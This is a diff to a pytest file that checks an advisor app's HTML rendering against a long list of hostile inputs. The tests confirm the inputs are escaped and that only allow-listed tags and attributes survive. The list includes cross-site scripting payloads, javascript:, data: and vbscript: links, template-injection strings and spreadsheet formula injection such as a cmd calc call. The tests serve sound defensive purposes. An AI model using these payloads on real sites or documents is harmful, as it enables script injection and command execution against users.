@@ -2,23 +2,29 @@
 
 import re
 from collections.abc import Iterator
-from dataclasses import replace
-from datetime import date
+from datetime import UTC, date, datetime
 from html.parser import HTMLParser
 from typing import Any
 
 import pytest
 
 from agent.advisor import Advisor, advisor, ask
-from agent.schema import Answer
+from agent.memory import Summary
+from agent.schema import Answer, Turn
+from knowledge.own import OwnDocument
 from knowledge.schema import LANGUAGES, Language
 from knowledge.store import locale, sentence
-from ui.conversation import Conversation, Turn
-from ui.handlers import STARTERS
+from ui.answering import Answering
+from ui.conversation import Conversation
+from ui.drawing import STARTERS
 from ui.html import Html, join, safe, tag
 from ui.markdown import markdown
+from ui.rail import rail_markup
 from ui.render import conversation_markup, header_markup, notice_markup
+from ui.side import side_markup
 from ui.sources import source_cards
+from ui.steps import pending_markup
+from ui.tab import Notice, fault
 from ui.view import Sources, View
 
 DAY = date(2026, 1, 15)
@@ -53,16 +59,57 @@ HOSTILE = (
     "＜script＞alert(1)＜/script＞",
     "[1](http://127.0.0.1:9/p) [[1]](#turn-9-source-9)",
     "| a | b |\n|---|---|\n| <img src=http://127.0.0.1:9/q> | <script>alert(1)</script> |",
+    "<ScRiPt src=//127.0.0.1:9/r></sCrIpT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img/src=x/onerror=alert(1)>",
+    "<image src=http://127.0.0.1:9/s>",
+    "<picture><source srcset=http://127.0.0.1:9/t><img src=x></picture>",
+    '<img srcset="http://127.0.0.1:9/u 2x" loading="eager">',
+    '<input type="image" src="http://127.0.0.1:9/v" onerror="alert(1)">',
+    '<body background="http://127.0.0.1:9/w" onload=alert(1)>',
+    '<table background="http://127.0.0.1:9/x"><tr><td>1</td></tr></table>',
+    '<embed src="http://127.0.0.1:9/y">',
+    '<audio src="http://127.0.0.1:9/z" autoplay onerror=alert(1)></audio>',
+    "<track src=http://127.0.0.1:9/aa><details open ontoggle=alert(1)>",
+    "<math><mtext><img src=http://127.0.0.1:9/ab onerror=alert(1)></mtext></math>",
+    '<svg><use href="http://127.0.0.1:9/ac#x"/></svg>',
+    "<svg><style>*{background:url(http://127.0.0.1:9/ad)}</style></svg>",
+    '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>',
+    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
+    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
+    "<base href=http://127.0.0.1:9/>",
+    '<button formaction="javascript:alert(1)" type="submit">x</button>',
+    '<a href="data:text/html,<script>alert(1)</script>" target="_top">x</a>',
+    '<a href="vbscript:alert(1)">x</a> <a href="http://127.0.0.1:9/ae" ping="http://127.0.0.1:9/af">x</a>',
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x]: http://127.0.0.1:9/ag\n\n[x]",
+    "<//127.0.0.1:9/ah> <mailto:a@b> <https://127.0.0.1:9/ai>",
+    "![](//127.0.0.1:9/aj) ![x](<http://127.0.0.1:9/ak> 'y')",
+    "{{7*7}} {%raw%} <%= alert(1) %> ${{<%[%'\"}}%\\",
+    "\u202e<script>alert(1)</script>\u202c",
+    "<\u200bscript>alert(1)</\u200bscript>",
+    "]]></style></title></noscript></xmp></textarea><svg onload=alert(1)>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    '<form class=act data-act=\'{"do":"delete"}\'><button class=act value=\'{"do":"stop"}\'>x</button></form>',
+    '=HYPERLINK("http://127.0.0.1:9/al","x")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '+IMPORTXML(CONCAT("http://127.0.0.1:9/",A1),"//a")',
 )
 ALLOWED = {
-    "a", "article", "aside", "br", "button", "code", "dd", "details", "div", "dl", "dt", "h1", "h2", "h3", "h4", "h5",
-    "li", "mark", "ol", "p", "q", "section", "small", "span", "strong", "summary", "table", "tbody", "td", "th",
-    "thead", "tr", "ul", "caption",
+    "a", "article", "br", "button", "circle", "code", "dd", "details", "div", "dl", "dt", "figure", "form", "h1", "h2",
+    "h3", "h4", "h5", "input", "label", "li", "line", "mark", "nav", "ol", "p", "path", "polyline", "q", "section",
+    "small", "span", "strong", "summary", "svg", "table", "tbody", "td", "text", "textarea", "th", "thead", "tr", "ul",
+    "caption",
 }  # fmt: skip
 ATTRIBUTES = {
-    "class", "colspan", "href", "id", "lang", "rel", "role", "scope", "start", "tabindex", "target", "title", "type",
-    "value",
+    "accept", "aria-current", "aria-hidden", "aria-label", "autocomplete", "class", "colspan", "cx", "cy", "d",
+    "data-act", "data-back", "data-conversation", "data-looks", "download", "dy", "href", "id", "lang", "maxlength", "multiple",
+    "name", "placeholder", "points", "r", "rel", "role", "rows", "scope", "start", "tabindex", "target", "title",
+    "type", "value", "viewbox", "x", "x1", "x2", "y", "y1", "y2",
 }  # fmt: skip
+LINKS = ("#turn-", "https://japanese.shanghai.gov.cn/", "export/0123")
+VOID = ("br", "input")
 
 
 class Page(HTMLParser):
@@ -78,7 +125,7 @@ class Page(HTMLParser):
 
     def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
         self.elements.append((tag, {name: value or "" for name, value in attrs}))
-        if tag != "br":
+        if tag not in VOID:
             self._open.append(tag)
 
     def handle_endtag(self, tag: str) -> None:
@@ -104,7 +151,7 @@ def check_harmless(markup: str) -> None:
         assert name in ALLOWED
         assert set(attributes) <= ATTRIBUTES
         if name == "a":
-            assert attributes["href"].startswith(("#turn-", "https://japanese.shanghai.gov.cn/"))
+            assert attributes["href"].startswith(LINKS)
 
 
 @pytest.fixture(scope="module")
@@ -113,15 +160,21 @@ def by() -> Advisor:
 
 
 def asked(by: Advisor, *questions: str, language: Language = "ja") -> Conversation:
-    talk = Conversation()
+    talk = Conversation("0123")
     for words in questions:
-        talk = talk.asking(words)
-        talk = talk.answered(ask(talk.question(language, DAY), by))
+        answer = ask(talk.question(words, language, DAY), by)
+        talk = Conversation("0123", (*talk.turns, Turn(words, answer)))
     return talk
 
 
+def markup_of(talk: Conversation, language: Language, by: Advisor) -> str:
+    """The turns and the panel beside them."""
+    view = View(language, by.policies)
+    return conversation_markup(talk, view) + side_markup(talk, (), view)
+
+
 def drawn(talk: Conversation, language: Language, by: Advisor) -> Page:
-    markup = conversation_markup(talk, language, by.policies)
+    markup = markup_of(talk, language, by)
     check_harmless(markup)
     return Page(markup)
 
@@ -252,7 +305,7 @@ def test_what_is_not_known_is_said_and_never_a_number(language: Language, by: Ad
     found = talk.turns[0].answer.estimates
     assert found
     assert all(e["ceiling"] is None for e in found)
-    markup = conversation_markup(talk, language, by.policies)
+    markup = markup_of(talk, language, by)
     cells = re.findall(r'<td class="ceiling">(.*?)</td>', markup)
     assert len(cells) == len(found)
     for cell in cells:
@@ -274,7 +327,7 @@ def test_a_third_is_a_third(by: Advisor) -> None:
 
 def test_amounts_of_a_column_stand_under_each_other_on_the_decimal_point(by: Advisor) -> None:
     words = "In Shanghai: a corpus for RMB 1,234,567.89 from an unrelated seller, a third-party model API for RMB 2m."
-    markup = conversation_markup(asked(by, words, language="en"), "en", by.policies)
+    markup = markup_of(asked(by, words, language="en"), "en", by)
     found = re.findall(r'<td class="ceiling">.*?class="currency">CNY</span> ([0-9.,]+)</span>', markup)
     assert len(found) == 2
     assert {len(digits.partition(".")[2]) for digits in found} == {2}
@@ -301,7 +354,7 @@ def test_what_the_rate_alone_would_give_is_not_shown_where_the_cap_cuts_it(by: A
 @pytest.mark.parametrize("language", LANGUAGES)
 def test_the_words_that_carry_a_figure_are_marked_in_the_card(language: Language, by: Advisor) -> None:
     talk = asked(by, starter(language, "several"), language=language)
-    markup = conversation_markup(talk, language, by.policies)
+    markup = markup_of(talk, language, by)
     marked = re.findall(r"<mark>(.*?)</mark>", markup)
     assert [m for m in marked if "50%" in m]
     assert [m for m in marked if "500" in m or "5 million" in m]
@@ -316,7 +369,9 @@ def test_a_figure_that_stands_twice_is_not_marked_in_another_language(by: Adviso
         "published": "", "url": None, "text": clause.text["en"], "title": clause.title["en"],
     }  # fmt: skip
     steps = [{"witness": {"clause": key, "quote": "最大5000万元"}}]
-    cards = source_cards([citation], [{"steps": steps, "conditions": []}], Sources(1, (key,), view))
+    cards = source_cards(
+        [citation], [{"instrument": "", "citations": [], "steps": steps, "conditions": []}], Sources(1, (key,), view)
+    )
     assert "<mark>" not in cards
 
 
@@ -333,15 +388,17 @@ def test_the_card_says_whose_words_it_holds_and_which_text_prevails(language: La
 def test_what_is_known_comes_with_the_words_that_told_it_and_once(by: Advisor) -> None:
     talk = asked(by, starter("ja", "rent"), "シード期で、社員は5人です。")
     page = drawn(talk, "ja", by)
-    assert page.text.count(sentence("ja", "page.known")) == 1
+    panel = Page(side_markup(talk, (), View("ja", by.policies))).text
+    for told in ("月20万元", "シード期", "5人"):
+        assert panel.count(f"{told}") >= 1
+    assert sentence("ja", "page.told_in", number=2) in panel
     assert "月20万元" in page.text
-    assert "シード期" in page.text
 
 
 @pytest.mark.parametrize("language", LANGUAGES)
 def test_the_same_conversation_gives_the_same_page(language: Language, by: Advisor) -> None:
     talk = asked(by, starter("zh", "rent"), language="zh")
-    assert conversation_markup(talk, language, by.policies) == conversation_markup(talk, language, by.policies)
+    assert markup_of(talk, language, by) == markup_of(talk, language, by)
 
 
 def test_the_answer_is_marked_with_its_own_language_and_the_rest_with_that_of_the_page(by: Advisor) -> None:
@@ -352,12 +409,9 @@ def test_the_answer_is_marked_with_its_own_language_and_the_rest_with_that_of_th
 
 
 def test_a_fault_is_told_in_the_language_of_the_page_with_its_reference() -> None:
-    talk = Conversation(pending="質問").failed("0a1b2c3d")
     for language in LANGUAGES:
-        assert "0a1b2c3d" in notice_markup(talk, language)
-    assert talk.pending == ""
-    assert talk.notice is not None
-    assert talk.notice.returned == "質問"
+        assert "0a1b2c3d" in notice_markup(fault("0a1b2c3d"), language)
+        assert sentence(language, "error.empty") in Page(notice_markup(Notice(refused=" "), language)).text
 
 
 @pytest.mark.parametrize("language", LANGUAGES)
@@ -374,8 +428,9 @@ def test_a_hostile_question_is_shown_as_it_was_written(hostile: str, by: Advisor
     page = drawn(asked(by, hostile, language="en"), "en", by)
     told = next(words for words in page.words if words == hostile.strip() or hostile.strip() in words)
     assert told
-    pending = drawn(Conversation(pending=hostile), "ja", by)
-    assert hostile in pending.text
+    working = pending_markup(1, Answering(hostile, 0), View("ja", by.policies))
+    check_harmless(working)
+    assert hostile in Page(working).text
 
 
 @pytest.mark.parametrize("hostile", HOSTILE)
@@ -384,7 +439,7 @@ def test_a_model_or_a_document_that_turned_hostile_stays_words(hostile: str, by:
     turned = Answer.model_construct(
         **{**_all_strings(dict(honest), hostile), "language": "en", "company": honest.company}
     )
-    talk = Conversation(turns=(Turn(hostile, turned),))
+    talk = Conversation("0123", (Turn(hostile, turned),))
     for language in LANGUAGES:
         drawn(talk, language, by)
 
@@ -407,7 +462,17 @@ def test_hostile_words_of_an_unknown_instrument_and_document_stay_words(by: Advi
         {**c, "document": hostile, "clause": hostile, "url": "javascript:alert(1)"} for c in honest.citations
     )
     turned = honest.model_copy(update={"estimates": estimates, "citations": citations, "caveats": (hostile,)})
-    talk = replace(Conversation(), turns=(Turn("x", turned),))
+    talk = Conversation("0123", (Turn("x", turned),))
     page = drawn(talk, "en", by)
     assert "alert(1)" in page.text
     assert not [link for link in page.links() if "javascript" in link]
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+def test_a_hostile_title_or_name_of_a_file_stays_words(hostile: str, by: Advisor) -> None:
+    view = View("en", by.policies)
+    listed = [Summary(id="0123", title=hostile, turns=1, changed=datetime(2026, 1, 15, tzinfo=UTC))]
+    document = OwnDocument("ab12", hostile, "pdf", 1, 1, 1, 0, 0)
+    for markup in (rail_markup(listed, hostile, hostile, view), side_markup(Conversation(), [document], view)):
+        check_harmless(markup)
+        assert hostile in Page(markup).text
